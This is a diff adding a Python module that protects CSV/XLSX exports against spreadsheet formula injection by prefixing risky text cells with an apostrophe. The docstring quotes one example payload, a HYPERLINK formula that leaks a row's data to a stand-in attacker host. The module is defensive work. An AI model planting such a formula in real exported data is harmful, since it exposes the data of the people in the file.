@@ -1,0 +1,40 @@
+"""Spreadsheet-safe cells: a CSV or XLSX cell that a spreadsheet would run as a formula is neutralised.
+
+A list may hold ``=HYPERLINK("http://attacker/?"&A2, "click")`` in a name field; exported and opened in
+Excel or LibreOffice it would run, or leak the row. OWASP's rule: a text cell starting with ``=``, ``+``,
+``-``, ``@``, tab or carriage return gets a leading apostrophe, which spreadsheets show as text and hide.
+Numbers are left alone (they are not text, so ``-5`` stays a number). Every CSV/XLSX writer of reckon
+passes its cells through :func:`safe_cell` (or writes with :func:`writer`).
+"""
+
+from __future__ import annotations
+
+import csv
+from typing import Any
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def safe_cell(value: Any) -> Any:
+    """The value, with a leading apostrophe if it is text a spreadsheet would evaluate."""
+    if isinstance(value, str) and value.startswith(TRIGGERS):
+        return "'" + value
+    return value
+
+
+class SafeWriter:
+    """``csv.writer`` whose rows are neutralised cell by cell."""
+
+    def __init__(self, handle: Any, **kwargs: Any) -> None:
+        self._w = csv.writer(handle, **kwargs)
+
+    def writerow(self, row: Any) -> Any:
+        return self._w.writerow([safe_cell(v) for v in row])
+
+    def writerows(self, rows: Any) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+def writer(handle: Any, **kwargs: Any) -> SafeWriter:
+    return SafeWriter(handle, **kwargs)
